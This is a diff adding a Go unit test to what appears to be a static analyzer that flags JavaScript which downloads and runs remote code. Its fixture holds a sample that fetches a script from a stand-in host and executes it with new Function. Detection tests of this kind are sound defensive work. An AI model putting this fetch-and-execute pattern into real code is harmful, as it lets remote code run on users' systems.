@@ -493,3 +493,22 @@ func TestSenderData(t *testing.T) {
 		}
 	}
 }
+
+// A function that returns a promise wrapping a download returns what was
+// fetched; an executor left unclosed (the end of a cut file) is read to
+// the end, without a panic.
+func TestPromiseWrappedDownload(t *testing.T) {
+	src := "const https = require('https');\n" +
+		"function get(u) {\n  return new Promise((res) => https.get(u, r => { let d = ''; r.on('end', () => res(d)); }));\n}\n" +
+		"(async () => { const code = await get('https://x.example/t.js'); new Function(code)(); })();\n"
+	fs, _ := Analyze(src, JS, nil)
+	if len(fs) != 1 || fs[0].Kind != FetchExec {
+		t.Fatalf("findings %+v, want one fetch-exec", fs)
+	}
+	for _, cut := range []string{"function g(u) { return new Promise(", "function g(u) { return new Promise((res) => https.get(u, r => res(r)"} {
+		Analyze(cut, JS, nil)
+	}
+	if fs, _ := Analyze("function get(u) {\n  return new Promise((res) => setTimeout(() => res(u), 10));\n}\nnew Function(await get('x'))();\n", JS, nil); len(fs) != 0 {
+		t.Fatalf("a promise of no download: %+v", fs)
+	}
+}
